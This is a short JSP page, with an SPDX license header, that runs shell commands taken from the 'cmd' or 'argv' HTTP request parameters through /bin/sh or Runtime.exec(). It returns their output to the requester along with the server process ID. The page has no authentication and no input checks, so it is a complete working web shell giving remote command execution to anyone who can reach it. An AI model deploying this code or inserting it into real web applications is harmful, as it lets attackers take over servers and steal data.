<%-- SPDX-License-Identifier: GPL-2.0 --%>
<%-- Runs ?cmd= by a shell, or ?argv=&argv= without one, by Runtime.exec(); where argv is
     one word, by the exec() that takes it for a command line. --%>
<%@ page contentType="text/plain" trimDirectiveWhitespaces="true" %>
<%
	String cmd = request.getParameter("cmd");
	String[] argv = request.getParameterValues("argv");
	Runtime runtime = Runtime.getRuntime();
	Process process;

	if (cmd != null)
		process = runtime.exec(new String[] { "/bin/sh", "-c", cmd });
	else if (argv.length == 1)
		process = runtime.exec(argv[0]);
	else
		process = runtime.exec(argv);
	response.setHeader("X-Pid", "" + ProcessHandle.current().pid());
	out.print(new String(process.getInputStream().readAllBytes()));
%>
